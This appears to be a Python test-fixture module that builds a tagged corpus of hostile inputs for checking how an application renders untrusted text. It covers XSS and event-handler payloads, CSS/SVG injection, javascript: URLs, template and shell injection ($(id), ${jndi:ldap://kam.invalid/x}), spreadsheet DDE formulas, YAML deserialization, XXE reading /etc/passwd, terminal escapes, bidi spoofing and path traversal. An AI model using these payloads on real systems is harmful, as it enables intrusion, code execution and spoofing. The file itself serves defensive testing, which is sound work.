"""What strangers may write where a name or a comment is asked for, to make an output do something: a corpus with a kind each.

A payload that works sets ``window.kamOwned`` or the title, asks for an address at ``kam.invalid``, or leaves an element,
a formula, a
file. Each has a marker, a word that stands beside it in every text, so that it can be found again wherever that text is shown.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from itertools import count, product

from kamassess.readable import readable

__all__ = ["PATHS", "PAYLOADS", "STEERING", "SUREST", "Payload", "of_kind"]


STEERING = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u200e\u200f\u061c\u2028-\u202e\u2060-\u206f\ufeff"
    "\u034f\u115f\u1160\u17b4\u17b5\u180e\u3164\uffa0\ufff9-\ufffb\ud800-\udfff\U000e0000-\U000e007f]"
)
"""Controls, what turns text round, and what has no width: written down here anew, so that the rule is not held against itself."""

_JS = "window.kamOwned=1;document.title='owned'"
_URL = "https://kam.invalid/x"


@dataclass(frozen=True)
class Payload:
    """A text of a stranger; ``marker`` stands right after it."""

    kind: str
    raw: str
    marker: str

    @property
    def text(self) -> str:
        """As a client writes it."""
        return f"{self.raw}{self.marker}"

    @property
    def shown(self) -> str:
        """As it is read."""
        return readable(self.text).strip()


_SCRIPT = (
    f"<script>{_JS}</script>", f"<SCRIPT SRC={_URL}></SCRIPT>", f"</title><script>{_JS}</script>",
    f"</style><script>{_JS}</script>",
    f"</script><script>{_JS}</script>", f"<scr<script>ipt>{_JS}</scr</script>ipt>", f"<script\x0c>{_JS}</script>",
    f"<script/x>{_JS}</script/x>", f"<!--<script>--><script>{_JS}</script>",
    f"<noscript><p title='</noscript><script>{_JS}</script>'>",
    f"<template><script>{_JS}</script></template>", f"&lt;script&gt;{_JS}&lt;/script&gt;",
    f"&#60;script&#62;{_JS}&#60;/script&#62;",
    f"\\u003cscript\\u003e{_JS}\\u003c/script\\u003e", f"%3Cscript%3E{_JS}%3C/script%3E", f"＜script＞{_JS}＜/script＞",
    f"]]><script>{_JS}</script>", f"--><script>{_JS}</script>", f"</textarea><script>{_JS}</script>",
    f"</pre></code><script>{_JS}</script>",
    "<meta http-equiv=refresh content='0;url=https://kam.invalid/'>", "<base href=https://kam.invalid/>",
    f"<link rel=stylesheet href={_URL}>",
    f"<iframe srcdoc='<script>parent.{_JS}</script>'></iframe>", f"<object data={_URL}></object>", f"<embed src={_URL}>",
    f"<form action={_URL}><button>go</button></form>", "<plaintext>", "<xmp>", "<!--", "<![CDATA[", "<?xml version='1.0'?>",
    "<!doctype html>",
)  # fmt: skip
_BREAK_OUT = tuple(
    f"{quote}{close}{what}"
    for quote, close, what in product(
        ('"', "'", "`", "\\'", "&quot;"), (" ", ">", "/>"), (f"onmouseover={_JS} x=", f"<img src=x onerror={_JS}>")
    )
)
_EVENTS = tuple(
    f"<{tag} {handler}=\"{_JS}\"{more}>"
    for tag, handler, more in (
        ("img", "onerror", " src=x"), ("body", "onload", ""), ("svg", "onload", ""), ("details open", "ontoggle", ""),
        ("input autofocus", "onfocus", ""), ("video", "onerror", "><source src=x"), ("marquee", "onstart", ""),
        ("a", "onclick", " href=#"),
        ("div style=animation-name:x", "onanimationstart", ""), ("select autofocus", "onfocus", ""),
        ("audio src=x", "onerror", ""),
        ("IMG/src=x", "OnErRoR", ""), ("img\nsrc=x\n", "onerror", ""),
        ("x", "onpointerrawupdate", " style=position:fixed;inset:0"),
    )
)  # fmt: skip
_CSS = (
    f"}}</style><img src={_URL}>", f"}}*{{background:url({_URL})}}", f"@import '{_URL}';", f"';background:url({_URL});x:'",
    "expression(1)",
    f"\\27;background:url({_URL})", f"</style><style>@font-face{{font-family:x;src:url({_URL})}}</style>", "{}*{display:none}/*",
    "*/",
    f"<style>body{{background:url({_URL})}}</style>", "-moz-binding:url(x)", "content:\"\\22", ";--x:url(javascript:1);",
    "}@media all{*{color:red}}",
)  # fmt: skip
_SVG = (
    f"<svg><script>{_JS}</script></svg>", f"<svg><a xlink:href=\"javascript:{_JS}\"><text>x</text></a></svg>",
    f"<svg><image href={_URL}></svg>",
    f"<svg><use href={_URL}#x></svg>", f"<svg><foreignObject><iframe src={_URL}></iframe></foreignObject></svg>",
    "</text></svg><b>x</b>",
    f"<svg><animate onbegin={_JS} attributeName=x dur=1s></svg>", f"<svg><set attributeName=onmouseover to={_JS}></svg>",
    "</tspan></text>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_JS}>", f"<svg><style>@import url({_URL})</style></svg>",
    "$\\frac{1}{2}$", "$y", "\\$",
)  # fmt: skip
_ADDRESSES = (
    f"javascript:{_JS}", f"JaVaScRiPt:{_JS}", f"java\tscript:{_JS}", f"data:text/html,<script>{_JS}</script>", f"vbscript:{_JS}",
    "data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+", _URL, "//kam.invalid/x", "file:///etc/passwd", "mailto:x@kam.invalid",
    "\\\\kam.invalid\\x",
    f"[x]({_URL})", f"![x]({_URL})", f"[x](javascript:{_JS})", f"<{_URL}>", f"[x]: {_URL}", "internal:Sheet1!A1",
    "external:c:\\x.xlsx",
)  # fmt: skip
_TYPST = (
    "#panic()", "#read(\"/etc/passwd\")", "#include \"/etc/passwd\"", "#import \"@preview/x:0.1.0\": *", "#image(\"/x.png\")",
    "#link(\"x\")[y]",
    "$ x $", "$#panic()$", "@kam-label", "<kam-label>", "*bold* _it_ `raw`", "```typ #panic() ```", "\"); #panic(); (\"",
    "\\\"#panic()", "\\u{22}#panic()",
    "// x", "/* x", "*/ #panic()", "] #panic() [", "= Heading", "- item", "+ item", "/ term: x", "~x~", "---", "#set text(0pt)",
    "#show: none", "#[", "#{",
    "#eval(\"panic()\")", "#plugin(\"x\")", "#sys.inputs", "#metadata(1) <x>", "#pagebreak()", "#place(dx: -9cm)[3.9]",
)  # fmt: skip
_TEMPLATES = (
    "{{7*7}}", "{{ config }}", "{% raw %}", "{% include '/etc/passwd' %}", "{# x #}", "${7*7}", "${jndi:ldap://kam.invalid/x}",
    "#{7*7}", "<%= 7*7 %>",
    "{0}", "{name}", "{x.__class__}", "{!r}", "{", "}", "{{", "}}", "%s", "%n%n%n", "%(name)s", "%%", "$HOME", "$(id)", "`id`",
    "; id", "| id", "&& id",
    "\\input{/etc/passwd}", "\\write18{id}", "\\begin{x}", "__import__('os')", "**strong** ~~muted~~ ^^act^^ ``code``", "**",
    "~~", "^^", "``", "%matplotlib",
    "[red]x[/red]", "[link=https://kam.invalid]x[/link]", "[/]", "@@fonts@@", ":smile:", "!id", "?x", "%%html",
)  # fmt: skip
_FORMULAS = tuple(
    f"{start}{body}"
    for start, body in (
        *product(("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠", "'=", "\ufeff=", "\u200b="), ("1+1",)),
        *(("=", f) for f in (
            f"HYPERLINK(\"{_URL}\",\"x\")", f"WEBSERVICE(\"{_URL}\")", "cmd|' /C calc'!A0", "DDE(\"cmd\";\"/C calc\";\"x\")",
            "'[x.xlsx]S'!A1",
            f"IMAGE(\"{_URL}\")", "SUM(1,1)*cmd|' /C calc'!A0",
        )),
        ("-", "2+3+cmd|' /C calc'!A0"), ("@", "SUM(1+1)"), ("{=", "1+1}"), ("%", "0A=1+1"),
    )
)  # fmt: skip
_CONTROLS = (
    "\x1b[31mred\x1b[0m", "\x1b[2J\x1b[H", "\x1b]0;owned\x07", f"\x1b]8;;{_URL}\x07x\x1b]8;;\x07", "\x1b[1A\x1b[2K", "\x1bc",
    "\x9b31m", "\x9d0;x\x9c",
    "\x1bP+q\x1b\\", "a\x08\x08b", "a\rb", "a\x0bb", "a\x0cb", "a\x85b", "a\u2028b", "a\u2029b", "a\x7fb", "a\x01b", "a\x1ab",
    "a\x90b", "\x1b[?1049h",
)  # fmt: skip
_DIRECTION = (
    "Acme \u202e1.3\u202c Ltd", "\u202eevil", "\u202d\u202e", "\u2067rtl", "\u2066x\u2067y", "\u2069\u2069", "x\u200fy",
    "x\u200ey", "\u061c5",
    "invoice\u202efdp.exe", "\u202a\u202b", "חברה", "شركة 42", "שלום 3.1 עולם", "\u2068x", "5\u202b6",
)  # fmt: skip
_UNSEEN = (
    "No\u200bth", "No\u200cth", "No\u200dth", "No\u2060th", "No\ufeffth", "\u3164", "\u115f", "\U000e0041\U000e0042",
    "a\ufff9b\ufffac", "a\u180eb",
    "Nоrth", "Ｎorth", "Νorth", "Z\u0351\u0352\u0353" * 3, "o" + "\u0301" * 40, "\u20dd" * 9, "👩\u200d🔬", "می\u200cخواهم",
    "a\u00adb", "\u2800",
    "\ue000", "\ufdd0", "\uffff", "\U0001f600", "𠮷", "が", "ﬁ", "①", "\u0000".replace("\0", "\u0002"),
)  # fmt: skip
_LONG = ("W" * 3000, "长" * 1200, "a" * 80 + "-" * 80, ("x" * 40 + "\n") * 30, "<b>" * 200, "(" * 500, "\U0001f9d1\u200d" * 60)
_BREAKERS = (
    '"}],"x":[{"', "</script>", "\\u2028", "\\", '\\"', "\\n", '",,,', '"\n"x', "a;b\tc", "#REF!",
    "!!python/object/apply:os.system ['id']", "&a *a",
    "- x: y", "key: value", "? |", "%YAML 1.1", "~", "null", "NaN", "1e999", "0x1F", "2026-01-01", "yes", "_x000D_", "_x0041_",
    "_xFFFF_", "&#0;",
    "&lol;", "<!ENTITY x SYSTEM 'file:///etc/passwd'>", "&amp;amp;", "&Lhello &P &D &\"Arial\"&24", "&&&", "'", "''", "$A$1",
    "A1", "R1C1", "[0]",
)  # fmt: skip

PATHS = (
    "../x", "..", ".", "a/b", "a\\b", "/etc/passwd", "C:\\x", "..\\..\\x", "a/../../b", "\u2044", "%2e%2e%2f", "a\0b", "~",
    "~root", "-rf", "--out", "*", "?",
    "con:", "a b", "$HOME", "`id`", "a;b", "a|b", "a>b", "\u202eb", "a\u200b/b", "．．／x", "a\nb", ".hidden", "_group", "<x>",
    "\"", "a'b", "a&b", "file:///x",
)  # fmt: skip
"""Ids of units, each of which would be a path, an option or a pattern somewhere."""

_number = count(1)
PAYLOADS = tuple(
    Payload(kind, raw, f"Kq{next(_number):03}z")
    for kind, family in {
        "script": _SCRIPT, "break-out": _BREAK_OUT, "event": _EVENTS, "css": _CSS, "svg": _SVG, "address": _ADDRESSES,
        "typst": _TYPST,
        "template": _TEMPLATES, "formula": _FORMULAS, "control": _CONTROLS, "direction": _DIRECTION, "unseen": _UNSEEN,
        "breaker": _BREAKERS,
        "long": _LONG,
    }.items()
    for raw in family
)  # fmt: skip
SUREST = tuple(next(payload for payload in PAYLOADS if payload.kind == kind) for kind in dict.fromkeys(p.kind for p in PAYLOADS))
"""One of each kind."""


def of_kind(*kinds: str) -> tuple[Payload, ...]:
    """Those of some kinds."""
    return tuple(payload for payload in PAYLOADS if payload.kind in kinds)
